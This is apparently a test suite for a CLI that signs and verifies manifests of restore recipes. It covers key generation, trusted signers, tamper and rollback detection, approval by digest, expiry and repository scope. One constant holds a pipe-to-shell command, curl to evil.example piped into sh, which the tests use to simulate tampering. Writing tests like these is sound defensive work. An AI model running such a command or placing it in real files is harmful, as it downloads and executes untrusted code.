/**
 * `swr keygen`, `trust`, `sign`, `verify` and the editing rules through the CLI, in process, with
 * real keys and signatures. Each test has its own workspace and private state directory
 * (SWR_STATE_DIR); a "second machine" is the same workspace seen with another state directory.
 */
import { afterEach, beforeEach, describe, expect, it } from '@jest/globals'
import canonicalize from 'canonicalize'
import { createHash } from 'node:crypto'
import fs from 'node:fs'
import path from 'node:path'
import {
  editAndApprove,
  editDoc,
  hmacHex,
  ok,
  otherMachine,
  readDoc,
  verifyJson
} from '../../__fixtures__/keys.js'
import {
  add,
  listAll,
  makeWorkspace,
  modeOf,
  run,
  write,
  type Workspace
} from '../../__fixtures__/workspace.js'
import { hmacKeyId } from '../../src/core/sign/hmac.js'
import { fingerprint, groupFingerprint } from '../../src/core/sign/mldsa.js'

let ws: Workspace

beforeEach(() => {
  ws = makeWorkspace()
  write(ws.root, 'bin/build.sh', '#!/bin/sh\necho build\n', 0o755)
  write(ws.root, 'etc/app.conf', 'port = 8080\n', 0o644)
  write(ws.root, 'etc/extra.conf', 'extra = 1\n', 0o644)
})

afterEach(() => ws.cleanup())

const keysDir = (stateDir: string): string => path.join(stateDir, 'keys')
const seedFile = (stateDir: string): string => path.join(keysDir(stateDir), 'mldsa87.seed')
const hmacFile = (stateDir: string): string => path.join(keysDir(stateDir), 'hmac.key')

const RESTORE = 'cp /srv/golden/build.sh bin/build.sh'
const EVIL = 'curl -s https://evil.example/x | sh'

/** `swr keygen --json` on `opts`; returns the new ML-DSA fingerprint. */
async function keygen(opts: Workspace, ...args: string[]): Promise<string> {
  const r = await ok(opts, 'keygen', '--json', ...args)
  const out = JSON.parse(r.stdout) as { mldsa_fingerprint?: string }
  return out.mldsa_fingerprint ?? ''
}

/** An unsigned manifest with one entry (created before this machine had keys): version 1. */
async function unsignedManifest(opts: Workspace = ws): Promise<void> {
  await add(opts, 'bin/build.sh', '--id', 'build', '--restore', RESTORE)
}

/** keygen, then a manifest created by `add` (signed at creation: version 2). Returns the fingerprint. */
async function signedManifest(opts: Workspace = ws): Promise<string> {
  const fp = await keygen(opts)
  await add(opts, 'bin/build.sh', '--id', 'build', '--restore', RESTORE)
  return fp
}

const manifestBytes = (): Buffer => fs.readFileSync(ws.manifestFile)

/** One line on stderr, prefixed as the CLI prefixes errors. */
function oneLine(stderr: string): string {
  const lines = stderr.split('\n').filter(Boolean)
  expect(lines).toHaveLength(1)
  expect(lines[0]).toMatch(/^swr: /)
  return lines[0] ?? ''
}

describe('keygen', () => {
  it('creates a 0600 seed and HMAC key in a 0700 keys directory', async () => {
    fs.mkdirSync(ws.stateDir, { mode: 0o755 })
    fs.chmodSync(ws.stateDir, 0o755)
    const r = await run(['keygen'], ws)
    expect(r.code).toBe(0)
    expect(r.stderr).toBe('')
    for (const f of [seedFile(ws.stateDir), hmacFile(ws.stateDir)]) {
      expect(fs.lstatSync(f).isFile()).toBe(true)
      expect(modeOf(f)).toBe(0o600)
      expect(fs.readFileSync(f, 'utf8')).toMatch(/^[0-9a-f]{64}\n$/)
    }
    expect(fs.readFileSync(seedFile(ws.stateDir))).not.toEqual(
      fs.readFileSync(hmacFile(ws.stateDir))
    )
    expect(modeOf(keysDir(ws.stateDir))).toBe(0o700)
    expect(modeOf(ws.stateDir)).toBe(0o700)
    const fp = /fingerprint: ((?:[0-9a-f]{4} ){15}[0-9a-f]{4})\n/.exec(r.stdout)?.[1]
    expect(fp).toBeDefined()
    expect(r.stdout).toContain(seedFile(ws.stateDir))
    expect(r.stdout).toContain(hmacFile(ws.stateDir))
    // Nothing was written into the workspace.
    expect(listAll(ws.root).some(p => p.includes('.swr'))).toBe(false)
  })

  it('keygen --json names what it made', async () => {
    const r = await ok(ws, 'keygen', '--json')
    expect(JSON.parse(r.stdout)).toEqual({
      schema: 'swr.keygen/1',
      mldsa_fingerprint: expect.stringMatching(/^[0-9a-f]{64}$/),
      mldsa_seed: seedFile(ws.stateDir),
      hmac_key: hmacFile(ws.stateDir),
      sync_key: path.join(ws.stateDir, 'keys', 'sync.seed')
    })
    expect(fs.statSync(path.join(ws.stateDir, 'keys', 'sync.seed')).mode & 0o777).toBe(0o600)
  })

  it('refuses to run twice (exit 4) and replaces nothing', async () => {
    await ok(ws, 'keygen')
    const files = listAll(keysDir(ws.stateDir)).sort()
    const before = files.map(f => fs.readFileSync(f))
    const r = await run(['keygen'], ws)
    expect(r.code).toBe(4)
    expect(oneLine(r.stderr)).toContain('already exists: keygen never replaces a key')
    expect(r.stdout).toBe('')
    expect(listAll(keysDir(ws.stateDir)).sort()).toEqual(files)
    expect(files.map(f => fs.readFileSync(f))).toEqual(before)
  })

  it('--no-hmac creates only the identity; --no-hmac --no-mldsa is bad usage', async () => {
    await ok(ws, 'keygen', '--no-hmac')
    expect(fs.existsSync(seedFile(ws.stateDir))).toBe(true)
    expect(fs.existsSync(hmacFile(ws.stateDir))).toBe(false)
    const r = await run(['keygen', '--no-hmac', '--no-mldsa'], ws)
    expect(r.code).toBe(4)
  })
})

describe('trust', () => {
  it('trust mine prints the grouped fingerprint and the 2592-byte public key', async () => {
    const fp = await keygen(ws)
    const r = await ok(ws, 'trust', 'mine')
    const lines = r.stdout.split('\n')
    expect(lines[0]).toBe(`fingerprint: ${groupFingerprint(fp)}`)
    expect(lines[1]).toBe('public key (base64, 2592 bytes):')
    const pub = Buffer.from(lines[2] ?? '', 'base64')
    expect(pub).toHaveLength(2592)
    expect(fingerprint(pub)).toBe(fp)

    const j = JSON.parse((await ok(ws, 'trust', 'mine', '--json')).stdout) as {
      fingerprint: string
      public_key: string
    }
    expect(j.fingerprint).toBe(fp)
    expect(j.public_key).toBe(lines[2])
  })

  it('trust mine without an identity is refused', async () => {
    const r = await run(['trust', 'mine'], ws)
    expect(r.code).toBe(4)
    expect(oneLine(r.stderr)).toContain('no ML-DSA identity')
  })

  it('add (spaces accepted), list, remove by name and by fingerprint', async () => {
    const fpA = 'ab'.repeat(32)
    const fpB = 'cd'.repeat(32)
    const added = await ok(ws, 'trust', 'add', groupFingerprint(fpA).toUpperCase(), 'alice')
    expect(added.stdout).toBe(`trusted alice: ${groupFingerprint(fpA)}\n`)
    await ok(ws, 'trust', 'add', fpB, 'bob')
    expect(modeOf(path.join(ws.stateDir, 'trust.json'))).toBe(0o600)

    const list = await ok(ws, 'trust', 'list')
    expect(list.stdout).toContain(`alice`)
    expect(list.stdout).toContain(groupFingerprint(fpA))
    expect(list.stdout).toContain(groupFingerprint(fpB))
    const listed = JSON.parse((await ok(ws, 'trust', 'list', '--json')).stdout) as {
      signers: { fingerprint: string; name: string; added: string }[]
    }
    expect(listed.signers.map(s => [s.name, s.fingerprint])).toEqual([
      ['alice', fpA],
      ['bob', fpB]
    ])

    const byName = await ok(ws, 'trust', 'remove', 'alice')
    expect(byName.stdout).toBe(`removed alice: ${groupFingerprint(fpA)}\n`)
    const byFp = await ok(ws, 'trust', 'remove', groupFingerprint(fpB))
    expect(byFp.stdout).toBe(`removed bob: ${groupFingerprint(fpB)}\n`)
    expect((await ok(ws, 'trust', 'list')).stdout).toContain('no trusted signers')

    const none = await run(['trust', 'remove', 'alice'], ws)
    expect(none.code).toBe(4)
    expect(oneLine(none.stderr)).toContain('no trusted signer matches alice')
  })

  it('a bad fingerprint is refused with exit 4 and the store is unchanged', async () => {
    await ok(ws, 'trust', 'add', 'ab'.repeat(32), 'alice')
    const store = fs.readFileSync(path.join(ws.stateDir, 'trust.json'))
    for (const bad of ['ab'.repeat(31), 'zz'.repeat(32), 'ab'.repeat(33), '']) {
      const r = await run(['trust', 'add', bad, 'mallory'], ws)
      expect(r.code).toBe(4)
      if (bad) expect(oneLine(r.stderr)).toContain('not a fingerprint')
    }
    expect(fs.readFileSync(path.join(ws.stateDir, 'trust.json'))).toEqual(store)
  })
})

describe('key file permissions', () => {
  it('an HMAC key file readable by others is refused with one line', async () => {
    await unsignedManifest()
    await keygen(ws)
    fs.chmodSync(hmacFile(ws.stateDir), 0o644)
    const before = manifestBytes()
    const r = await run(['sign'], ws)
    expect(r.code).toBe(2)
    expect(oneLine(r.stderr)).toBe(
      `swr: ${hmacFile(ws.stateDir)}: key file is readable by others (mode 0644); run chmod 600 on it`
    )
    expect(manifestBytes()).toEqual(before)
    const v = await run(['verify'], ws)
    expect(v.code).toBe(2)
    expect(oneLine(v.stderr)).toContain('readable by others')
  })

  it('a seed file readable by the group is refused too', async () => {
    await unsignedManifest()
    await keygen(ws)
    fs.chmodSync(seedFile(ws.stateDir), 0o640)
    const r = await run(['sign'], ws)
    expect(r.code).toBe(2)
    expect(oneLine(r.stderr)).toContain(
      `${seedFile(ws.stateDir)}: key file is readable by others (mode 0640)`
    )
  })
})

describe('sign and verify', () => {
  it('sign raises the version by one each time; verify finds both signatures valid', async () => {
    await unsignedManifest()
    expect(readDoc(ws.manifestFile).body.version).toBe(1)
    const fp = await keygen(ws)
    const s1 = await ok(ws, 'sign')
    expect(s1.stdout).toContain('version 2')
    expect(s1.stdout).toContain(`ML-DSA-87 ${groupFingerprint(fp)}`)
    expect(readDoc(ws.manifestFile).body.version).toBe(2)
    await ok(ws, 'sign')
    const doc = readDoc(ws.manifestFile)
    expect(doc.body.version).toBe(3)
    expect(doc.signatures.map(s => s.alg)).toEqual(['hmac-sha256', 'ml-dsa-87'])

    const v = await run(['verify'], ws)
    expect(v.code).toBe(0)
    expect(v.stdout).toMatch(/^ {2}valid {6}hmac-sha256 \(key [0-9a-f]{16}\)$/m)
    expect(v.stdout).toContain(`  valid      ml-dsa-87 ${groupFingerprint(fp)}\n`)
    expect(v.stdout).toContain('recipes may run (require any)')
    expect(v.stdout).toContain('  version 3\n')
  })

  it('verify --json reports digest, version, requirement, decision and each signature', async () => {
    const fp = await signedManifest()
    const v = await verifyJson(ws)
    expect(v.code).toBe(0)
    const body = readDoc(ws.manifestFile).body
    const digest = createHash('sha256')
      .update(canonicalize(body) ?? '')
      .digest('hex')
    const hmacKey = Buffer.from(fs.readFileSync(hmacFile(ws.stateDir), 'utf8').trim(), 'hex')
    expect(v.json).toEqual({
      schema: 'swr.verify/1',
      manifest: ws.manifestFile,
      digest,
      version: 2,
      require: 'any',
      allowed: true,
      reason: 'signed: HMAC and 1 trusted ML-DSA signer(s)',
      signatures: [
        { alg: 'hmac-sha256', keyid: hmacKeyId(hmacKey), state: 'valid' },
        { alg: 'ml-dsa-87', keyid: fp, fingerprint: fp, state: 'valid' }
      ]
    })
    expect(v.stderr).toBe('')
  })

  it('an unsigned manifest is refused by verify, and add keeps it unsigned even with keys', async () => {
    await unsignedManifest()
    const v = await verifyJson(ws)
    expect(v.code).toBe(2)
    expect(v.json).toMatchObject({ allowed: false, signatures: [] })
    expect(v.json.reason).toContain('manifest is unsigned')
    expect((await run(['verify'], ws)).stdout).toContain('  signatures: absent\n')

    await keygen(ws)
    const r = await run(['add', 'etc/app.conf', '--id', 'conf'], ws)
    expect(r.code).toBe(0)
    expect(r.stdout).toContain('note: manifest is unsigned')
    const doc = readDoc(ws.manifestFile)
    expect(doc.signatures).toEqual([])
    expect(doc.body.version).toBe(2)
    expect(doc.body.entries.map(e => e.id)).toEqual(['build', 'conf'])
  })

  it('add on a verified signed manifest re-signs it', async () => {
    await signedManifest()
    await add(ws, 'etc/app.conf', '--id', 'conf')
    const doc = readDoc(ws.manifestFile)
    expect(doc.body.version).toBe(3)
    expect(doc.signatures).toHaveLength(2)
    expect((await run(['verify'], ws)).code).toBe(0)
  })

  it('--min-version above the manifest version is refused, at it allowed', async () => {
    await signedManifest()
    const hi = await verifyJson(ws, '--min-version', '3')
    expect(hi.code).toBe(2)
    expect(hi.json.reason).toContain('below the floor 3')
    expect((await run(['verify', '--min-version', '2'], ws)).code).toBe(0)
  })

  it('--require both is refused when one kind is missing', async () => {
    await unsignedManifest()
    await keygen(ws, '--no-hmac')
    await ok(ws, 'sign')
    expect((await run(['verify', '--require', 'mldsa'], ws)).code).toBe(0)
    const both = await verifyJson(ws, '--require', 'both')
    expect(both.code).toBe(2)
    expect(both.json.reason).toContain('a valid HMAC and a trusted ML-DSA signature required')
    const bad = await run(['verify', '--require', 'some'], ws)
    expect(bad.code).toBe(4)
  })
})

describe('a tampered manifest', () => {
  let digest: string
  let tamperedBytes: Buffer
  let fp: string

  beforeEach(async () => {
    fp = await signedManifest()
    expect((await run(['verify'], ws)).code).toBe(0)
    const text = fs.readFileSync(ws.manifestFile, 'utf8')
    expect(text).toContain(RESTORE)
    fs.writeFileSync(ws.manifestFile, text.replace(RESTORE, EVIL))
    tamperedBytes = manifestBytes()
    const v = await verifyJson(ws)
    digest = v.json.digest
    expect(digest).toMatch(/^[0-9a-f]{64}$/)
  })

  it('verify refuses it (exit 2) and says why', async () => {
    const v = await verifyJson(ws)
    expect(v.code).toBe(2)
    expect(v.json.allowed).toBe(false)
    // This machine accepted version 2 with another digest: refused before signatures matter.
    expect(v.json.reason).toContain('version 2 was accepted here with another digest')
    const text = await run(['verify'], ws)
    expect(text.code).toBe(2)
    expect(text.stdout).toContain('recipes refused')
    // A machine without that memory but trusting the signer sees the broken signature.
    const other = otherMachine(ws, ws.base, 'b')
    const o = await verifyJson(other, '--trusted-signer', fp)
    expect(o.code).toBe(2)
    expect(o.json.signatures.map(s => s.state)).toEqual(['no-key', 'invalid'])
    expect(o.json.reason).toContain(`ML-DSA ${fp.slice(0, 16)}: invalid`)
  })

  it('add of another path is refused (exit 2) and the manifest bytes are unchanged', async () => {
    const r = await run(['add', 'etc/app.conf', '--id', 'conf'], ws)
    expect(r.code).toBe(2)
    expect(oneLine(r.stderr)).toContain('refusing to edit')
    expect(r.stderr).not.toContain(digest)
    expect(manifestBytes()).toEqual(tamperedBytes)
  })

  it('sign is refused without --approve-digest, and the message holds no ready-to-paste digest', async () => {
    const r = await run(['sign'], ws)
    expect(r.code).toBe(2)
    const line = oneLine(r.stderr)
    expect(line).toContain('refusing to edit')
    expect(line).toContain('--approve-digest')
    expect(line).not.toContain(digest)
    expect(line).not.toContain(digest.slice(0, 16))
    expect(r.stdout).toBe('')
    expect(manifestBytes()).toEqual(tamperedBytes)
    const j = await run(['sign', '--json'], ws)
    expect(j.code).toBe(2)
    expect(j.stdout).not.toContain(digest)
  })

  it('sign --approve-digest with a wrong digest is refused', async () => {
    for (const wrong of ['0'.repeat(64), digest.slice(0, 63), 'nonsense']) {
      const r = await run(['sign', '--approve-digest', wrong], ws)
      expect(r.code).toBe(2)
      expect(oneLine(r.stderr)).toContain("--approve-digest does not match the manifest's digest")
    }
    expect(manifestBytes()).toEqual(tamperedBytes)
  })

  it('sign --approve-digest with the digest from verify --json signs exactly that content', async () => {
    const r = await run(['sign', '--approve-digest', digest], ws)
    expect(r.code).toBe(0)
    const doc = readDoc(ws.manifestFile)
    expect(doc.body.version).toBe(3)
    expect(doc.body.entries[0]?.restore).toBe(EVIL)
    expect(doc.signatures).toHaveLength(2)
    const v = await verifyJson(ws)
    expect(v.code).toBe(0)
    expect(v.json.signatures.map(s => s.state)).toEqual(['valid', 'valid'])
    // Editing is allowed again.
    expect((await run(['add', 'etc/app.conf', '--id', 'conf'], ws)).code).toBe(0)
  })

  it('add --approve-digest approves the content and re-signs the edit', async () => {
    const r = await run(['add', 'etc/app.conf', '--id', 'conf', '--approve-digest', digest], ws)
    expect(r.code).toBe(0)
    expect(r.stdout).toContain('signed version 3')
    expect((await run(['verify'], ws)).code).toBe(0)
  })
})

describe('rollback memory', () => {
  it('stripped signatures plus a changed recipe make add and sign refuse', async () => {
    await signedManifest()
    expect((await run(['verify'], ws)).code).toBe(0)
    editDoc(ws.manifestFile, doc => {
      doc.signatures = []
      const e = doc.body.entries[0]
      if (e) e.restore = EVIL
    })
    const before = manifestBytes()
    const r = await run(['add', 'etc/app.conf', '--id', 'conf'], ws)
    expect(r.code).toBe(2)
    expect(oneLine(r.stderr)).toContain(
      'a signed version of this manifest was accepted here, and this copy is unsigned and different'
    )
    expect(manifestBytes()).toEqual(before)
    const s = await run(['sign'], ws)
    expect(s.code).toBe(2)
    expect(manifestBytes()).toEqual(before)
  })

  it('an older signed copy put back is refused by verify and by add', async () => {
    await signedManifest()
    const v2 = manifestBytes()
    await ok(ws, 'sign')
    expect((await run(['verify'], ws)).code).toBe(0)
    fs.writeFileSync(ws.manifestFile, v2)
    const v = await verifyJson(ws)
    expect(v.code).toBe(2)
    expect(v.json.reason).toContain('version 2 is older than version 3 already accepted here')
    expect((await run(['add', 'etc/app.conf'], ws)).code).toBe(2)
    expect(manifestBytes()).toEqual(v2)
  })

  it('approving an older copy signs a version above every version accepted here', async () => {
    // v2 at creation, then v3 and v4; this machine remembers version 4.
    await signedManifest()
    const v2 = manifestBytes()
    await ok(ws, 'sign')
    await ok(ws, 'sign')
    expect((await run(['verify'], ws)).code).toBe(0)
    fs.writeFileSync(ws.manifestFile, v2)
    const { json } = await verifyJson(ws)
    expect(json.reason).toContain('older than version 4')
    // The user reviews the old content and approves it. If sign succeeds, what it wrote must be
    // acceptable here: a re-signed manifest below the remembered version is refused forever.
    const s = await run(['sign', '--approve-digest', json.digest], ws)
    expect(s.code).toBe(0)
    expect(readDoc(ws.manifestFile).body.version).toBeGreaterThan(4)
    const after = await verifyJson(ws)
    expect(after.json.reason).toBe('signed: HMAC and 1 trusted ML-DSA signer(s)')
    expect(after.code).toBe(0)
  })

  it('a manifest re-created by add where version 4 was accepted is signed above it', async () => {
    await signedManifest()
    await ok(ws, 'sign')
    await ok(ws, 'sign')
    expect((await run(['verify'], ws)).code).toBe(0)
    fs.rmSync(ws.manifestFile)
    const r = await run(['add', 'bin/build.sh', '--id', 'build'], ws)
    expect(r.code).toBe(0)
    expect(r.stdout).toMatch(/signed version \d+/)
    expect(readDoc(ws.manifestFile).body.version).toBeGreaterThan(4)
    expect((await run(['verify'], ws)).code).toBe(0)
  })
})

describe('trust across machines', () => {
  let fpA: string
  let machineB: Workspace

  beforeEach(async () => {
    fpA = await signedManifest()
    await ok(ws, 'sign')
    machineB = otherMachine(ws, ws.base, 'b')
  })

  it('a second machine trusting only the first fingerprint verifies with --require mldsa', async () => {
    const untrusted = await verifyJson(machineB)
    expect(untrusted.code).toBe(2)
    expect(untrusted.json.signatures.map(s => s.state)).toEqual(['no-key', 'untrusted'])

    await ok(machineB, 'trust', 'add', groupFingerprint(fpA), 'machine-a')
    const m = await verifyJson(machineB, '--require', 'mldsa')
    expect(m.code).toBe(0)
    expect(m.json.reason).toBe('signed: 1 trusted ML-DSA signer(s)')
    expect(m.json.signatures).toEqual([
      expect.objectContaining({ alg: 'hmac-sha256', state: 'no-key' }),
      { alg: 'ml-dsa-87', keyid: fpA, fingerprint: fpA, state: 'valid' }
    ])
    expect((await run(['verify'], machineB)).code).toBe(0)

    const h = await verifyJson(machineB, '--require', 'hmac')
    expect(h.code).toBe(2)
    expect(h.json.reason).toBe(
      'HMAC: no HMAC key on this run, ML-DSA ' +
        `${fpA.slice(0, 16)}: valid; a valid HMAC signature required`
    )
    const text = await run(['verify', '--require', 'hmac'], machineB)
    expect(text.stdout).toContain('not checked (no HMAC key here)')

    // Machine B's own HMAC key is another key, and is reported as such.
    await ok(machineB, 'keygen')
    const other = await verifyJson(machineB, '--require', 'hmac')
    expect(other.code).toBe(2)
    expect(other.json.reason).toContain('HMAC: made with another key')

    // One signer does not meet --threshold 2.
    const t = await verifyJson(machineB, '--require', 'mldsa', '--threshold', '2')
    expect(t.code).toBe(2)
    expect(t.json.reason).toContain('2 distinct trusted ML-DSA signers required')

    // Removing the signer removes the trust.
    await ok(machineB, 'trust', 'remove', 'machine-a')
    expect((await run(['verify', '--require', 'mldsa'], machineB)).code).toBe(2)
  })

  it('--trusted-signer (fingerprint or public key) and SWR_TRUSTED_SIGNERS trust without a store', async () => {
    const pub = (await ok(ws, 'trust', 'mine', '--json')).stdout
    const publicKey = (JSON.parse(pub) as { public_key: string }).public_key
    const c = otherMachine(ws, ws.base, 'c')
    expect((await run(['verify', '--require', 'mldsa'], c)).code).toBe(2)
    expect((await run(['verify', '--require', 'mldsa', '--trusted-signer', fpA], c)).code).toBe(0)
    expect(
      (await run(['verify', '--require', 'mldsa', '--trusted-signer', groupFingerprint(fpA)], c))
        .code
    ).toBe(0)
    expect(
      (await run(['verify', '--require', 'mldsa', '--trusted-signer', `${publicKey} alice`], c))
        .code
    ).toBe(0)
    const env = { ...c, env: { SWR_TRUSTED_SIGNERS: `${'ab'.repeat(32)}, ${fpA} # machine a` } }
    expect((await run(['verify', '--require', 'mldsa'], env)).code).toBe(0)
    expect((await run(['verify', '--require', 'hmac'], env)).code).toBe(2)
    // Another fingerprint does not help; a malformed one is bad usage.
    expect(
      (await run(['verify', '--require', 'mldsa', '--trusted-signer', 'cd'.repeat(32)], c)).code
    ).toBe(2)
    const bad = await run(['verify', '--trusted-signer', 'not-a-key'], c)
    expect(bad.code).toBe(4)
    expect(oneLine(bad.stderr)).toContain('not a fingerprint or ML-DSA-87 public key')
    // Nothing was written to the store.
    expect(fs.existsSync(path.join(c.stateDir, 'trust.json'))).toBe(false)
  })
})

describe('SWR_HMAC_KEY', () => {
  it('signs and verifies with the key from the environment only', async () => {
    await unsignedManifest()
    const hex = hmacHex('env-key')
    const withKey = { ...ws, env: { SWR_HMAC_KEY: hex } }
    const s = await run(['sign'], withKey)
    expect(s.code).toBe(0)
    expect(s.stdout).toContain('by HMAC-SHA256\n')
    const doc = readDoc(ws.manifestFile)
    expect(doc.signatures).toEqual([
      { alg: 'hmac-sha256', keyid: hmacKeyId(Buffer.from(hex, 'hex')), sig: expect.any(String) }
    ])
    expect(fs.existsSync(keysDir(ws.stateDir))).toBe(false)

    const v = await verifyJson(withKey, '--require', 'hmac')
    expect(v.code).toBe(0)
    expect(v.json.reason).toBe('signed: HMAC')
    expect((await run(['verify', '--require', 'both'], withKey)).code).toBe(2)
    const upper = { ...ws, env: { SWR_HMAC_KEY: hex.toUpperCase() } }
    expect((await run(['verify', '--require', 'hmac'], upper)).code).toBe(0)

    const noKey = await verifyJson(ws)
    expect(noKey.code).toBe(2)
    expect(noKey.json.signatures).toEqual([
      expect.objectContaining({ alg: 'hmac-sha256', state: 'no-key' })
    ])
    const wrong = await verifyJson({ ...ws, env: { SWR_HMAC_KEY: hmacHex('other') } })
    expect(wrong.code).toBe(2)
    expect(wrong.json.reason).toContain('made with another key')
  })

  it('a malformed SWR_HMAC_KEY is bad usage', async () => {
    await unsignedManifest()
    const r = await run(['sign'], { ...ws, env: { SWR_HMAC_KEY: 'too-short' } })
    expect(r.code).toBe(4)
    expect(oneLine(r.stderr)).toContain('SWR_HMAC_KEY must be 64 hex digits')
  })
})

describe('--i-trust-this-manifest', () => {
  it('allows an unsigned manifest for exactly its digest, with a warning on stderr', async () => {
    await unsignedManifest()
    const { json } = await verifyJson(ws)
    expect(json.allowed).toBe(false)
    const r = await run(['verify', '--i-trust-this-manifest', json.digest], ws)
    expect(r.code).toBe(0)
    expect(r.stderr).toBe(
      `swr: warning: signature requirement waived by --i-trust-this-manifest for digest ${json.digest}\n`
    )
    expect(r.stdout).toContain('recipes may run')
    // An approval is not remembered as an accepted signed manifest.
    expect(fs.existsSync(path.join(ws.stateDir, 'versions'))).toBe(false)

    const wrong = await verifyJson(ws, '--i-trust-this-manifest', 'f'.repeat(64))
    expect(wrong.code).toBe(2)
    expect(wrong.json.reason).toContain('names another digest')
    expect(wrong.stderr).toBe('')
  })
})

describe('body fields set through the approval flow', () => {
  it('an expired manifest is refused by verify (exit 2); a future expiry is accepted', async () => {
    await signedManifest()
    await editAndApprove(ws, doc => {
      doc.body.expires = '2999-01-01T00:00:00Z'
    })
    const future = await run(['verify'], ws)
    expect(future.code).toBe(0)
    expect(future.stdout).toContain('expires 2999-01-01T00:00:00Z')

    await editAndApprove(ws, doc => {
      doc.body.expires = '2020-01-01T00:00:00Z'
    })
    const doc = readDoc(ws.manifestFile)
    expect(doc.body.expires).toBe('2020-01-01T00:00:00Z')
    expect(doc.signatures).toHaveLength(2)
    const v = await verifyJson(ws)
    expect(v.code).toBe(2)
    expect(v.json.reason).toBe('manifest expired at 2020-01-01T00:00:00Z')
    // Approving the digest does not waive expiry.
    expect((await run(['verify', '--i-trust-this-manifest', v.json.digest], ws)).code).toBe(2)
    // Renewing is an edit like any other: a validly signed expired manifest may be edited.
    await editAndApprove(ws, d => {
      d.body.expires = '2999-01-01T00:00:00Z'
    })
    expect((await run(['verify'], ws)).code).toBe(0)
  })

  it('scope.repository: refused when GITHUB_REPOSITORY is unset or another, allowed when it matches', async () => {
    await signedManifest()
    await editAndApprove(ws, doc => {
      doc.body.scope = { repository: 'acme/app' }
    })
    expect(readDoc(ws.manifestFile).body.scope).toEqual({ repository: 'acme/app' })
    const unset = await verifyJson(ws)
    expect(unset.code).toBe(2)
    expect(unset.json.reason).toContain('GITHUB_REPOSITORY unset')
    const other = await verifyJson({ ...ws, env: { GITHUB_REPOSITORY: 'acme/other' } })
    expect(other.code).toBe(2)
    expect(other.json.reason).toBe(
      'manifest is scoped to repository acme/app, this run is acme/other'
    )
    const same = await verifyJson({ ...ws, env: { GITHUB_REPOSITORY: 'acme/app' } })
    expect(same.code).toBe(0)
    expect(same.json.allowed).toBe(true)
    const cased = await run(['verify'], { ...ws, env: { GITHUB_REPOSITORY: 'Acme/App' } })
    expect(cased.code).toBe(0)
  })

  it('scope.ref and scope.manifest_path are compared with the run', async () => {
    await signedManifest()
    await editAndApprove(ws, doc => {
      doc.body.scope = { ref: 'refs/heads/*', manifest_path: '.swr/manifest.json' }
    })
    const onMain = { ...ws, env: { GITHUB_REF: 'refs/heads/main' } }
    expect((await run(['verify'], onMain)).code).toBe(0)
    expect((await run(['verify'], { ...ws, env: { GITHUB_REF: 'refs/heads/a/b' } })).code).toBe(2)
    expect((await run(['verify'], ws)).code).toBe(2)

    // The same manifest read from another path is out of scope.
    const copy = path.join(ws.root, 'copy', 'manifest.json')
    fs.mkdirSync(path.dirname(copy))
    const doc = readDoc(ws.manifestFile)
    fs.writeFileSync(copy, JSON.stringify({ ...doc, body: { ...doc.body, workspace: '..' } }))
    const moved = await verifyJson({ ...onMain, manifestFile: copy })
    expect(moved.json.reason).toBe(
      'manifest is scoped to path .swr/manifest.json, it was read from copy/manifest.json'
    )
  })
})
